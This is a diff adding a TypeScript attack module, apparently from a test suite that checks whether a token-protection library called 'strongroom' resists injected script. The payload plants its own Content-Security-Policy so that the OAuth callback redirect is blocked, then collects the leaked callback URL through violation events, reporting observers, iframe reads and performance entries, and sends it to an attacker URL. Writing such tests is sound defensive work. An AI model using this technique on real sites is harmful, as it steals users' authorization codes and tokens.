@@ -1,0 +1,43 @@
+import { attack } from "../attack.js";
+import { withoutWorker } from "../without-worker.js";
+
+export default attack({
+  name: "a policy of the attacker's own that reports the callback's URL",
+  threat: "acquisition of new tokens",
+  target: "strongroom",
+  hook: withoutWorker,
+  // The redirect from the authorization server to the callback breaks it, and the report says what was blocked.
+  async payload(it) {
+    const { ReportingObserver } = window as unknown as {
+      ReportingObserver?: new (callback: (reports: { toJSON(): unknown }[]) => void) => { observe(): void };
+    };
+    addEventListener("securitypolicyviolation", (event) =>
+      it.steal(event.blockedURI, event.documentURI, event.sourceFile, event.sample, event.referrer),
+    );
+    if (ReportingObserver)
+      new ReportingObserver((reports) => it.steal(reports.map((r) => r.toJSON()))).observe();
+    const { origin } = new URL(it.authorizationEndpoint);
+    const meta = document.createElement("meta");
+    meta.httpEquiv = "Content-Security-Policy";
+    meta.content = `frame-src ${origin}; img-src ${origin}; connect-src ${origin} ${it.attackerUrl}`;
+    document.head.append(meta);
+    const frame = document.createElement("iframe");
+    frame.src = it.authorizationUrl();
+    document.body.append(frame, Object.assign(new Image(), { src: it.authorizationUrl() }));
+    await fetch(it.authorizationUrl(), { mode: "no-cors", credentials: "include" }).catch((error) =>
+      it.steal(String(error)),
+    );
+    await it.pause(1_500);
+    try {
+      it.steal(frame.contentWindow?.location.href);
+    } catch {
+      // Of another origin.
+    }
+    it.steal(performance.getEntries());
+  },
+  async play(stage) {
+    await stage.unregisterWorkers();
+    await stage.openUnconnected();
+    await stage.inject();
+  },
+});
